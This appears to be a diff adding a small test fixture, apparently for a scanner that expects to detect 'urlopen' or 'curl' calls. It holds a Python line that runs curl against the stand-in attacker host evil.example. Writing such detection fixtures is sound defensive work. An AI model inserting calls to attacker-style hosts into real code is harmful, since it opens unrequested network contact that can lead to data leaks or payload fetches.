@@ -1,0 +1,3 @@
+# expect: urlopen | curl
+import subprocess
+subprocess.run(['curl', 'http://evil.example/'])
